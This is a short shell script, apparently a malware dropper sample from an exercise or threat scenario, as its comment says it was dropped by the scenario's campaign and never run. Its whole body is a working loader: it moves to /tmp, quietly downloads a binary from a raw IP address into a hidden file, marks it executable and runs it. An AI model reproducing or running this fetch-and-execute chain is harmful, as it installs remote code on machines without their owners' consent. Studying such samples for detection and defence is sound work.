#!/bin/sh
# dropped by the campaign of this scenario (never run)
cd /tmp || cd /var/tmp
wget -q -O /tmp/.x http://93.240.52.232:3389/x86_64 && chmod +x /tmp/.x && /tmp/.x
